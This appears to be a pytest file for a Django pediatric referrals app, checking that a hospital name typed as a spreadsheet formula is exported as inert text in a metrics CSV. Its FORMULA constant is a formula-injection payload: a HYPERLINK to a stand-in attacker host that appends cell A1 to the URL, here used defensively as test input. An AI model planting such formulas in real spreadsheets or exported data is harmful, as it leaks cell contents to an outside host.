"""referrals:metrics_csv writes through the one CSV writer: a hospital name typed as a
spreadsheet formula arrives as text, not as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from cloudpeds.accounts.models import Hospital

from .conftest import make_request

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'


def test_a_hospital_name_starting_with_equals_is_neutralised_in_the_volume_table(
    client, doctor, patient, respiratory, group_admin
):
    Hospital.objects.filter(pk=doctor.hospital_id).update(name_zh=FORMULA, name_en=FORMULA)
    make_request(doctor, patient, respiratory)
    client.force_login(group_admin)

    response = client.get(reverse("referrals:metrics_csv"), {"table": "volume"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    header, *body = rows
    hospital = header.index("hospital")
    assert [row[hospital] for row in body] == ["'" + FORMULA]
    assert response["Cache-Control"] == "no-store"
